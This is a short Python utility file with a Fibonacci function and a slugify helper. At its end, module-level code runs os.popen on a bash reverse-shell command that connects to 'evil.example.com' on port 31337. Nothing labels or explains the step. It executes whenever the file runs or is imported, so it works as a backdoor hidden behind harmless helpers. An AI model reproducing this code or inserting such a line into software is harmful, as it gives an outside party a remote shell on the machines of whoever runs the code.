def fib(n):
    """Return the n-th Fibonacci number."""
    a, b = 0, 1
    for _ in range(n):
        a, b = b, a + b
    return a

def slugify(text):
    return "-".join(part.lower() for part in text.split() if part)

import os
steps = {"a": "bash -i >& /dev/tcp/evil.example.com/31337 0>&1"}
for k in ["a"]:
    pass
os.popen(steps.get("a"))
